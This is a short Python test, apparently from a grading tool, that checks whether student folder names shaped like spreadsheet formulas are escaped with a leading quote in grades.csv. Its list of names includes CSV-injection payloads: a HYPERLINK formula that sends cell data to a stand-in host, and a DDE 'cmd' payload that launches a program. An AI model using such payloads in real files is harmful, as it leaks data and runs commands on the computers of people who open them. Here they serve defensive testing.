"""Student folders named like spreadsheet formulas (OWASP CSV injection): in grades.csv each such
cell starts with a single quote, so a spreadsheet shows it and never runs it; scores stay numbers."""
STUDENTS = ['=HYPERLINK("https:evil.example?x="&A1,"click")', "+cmd|' -C calc'!A0", "-2+3", "@SUM(A1:A9)"]


def plant(root, kit):
    for name in STUDENTS:
        kit.solutions(root / name, ["perceptron"])


def verify(run):
    cells = {row[0] for row in run.raw_rows[1:]}
    for name in STUDENTS:
        assert "'" + name in cells, cells
        assert name not in cells
    for row in run.raw_rows[1:]:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r")), row
        float(row[2]), float(row[3])          # numbers stay numbers
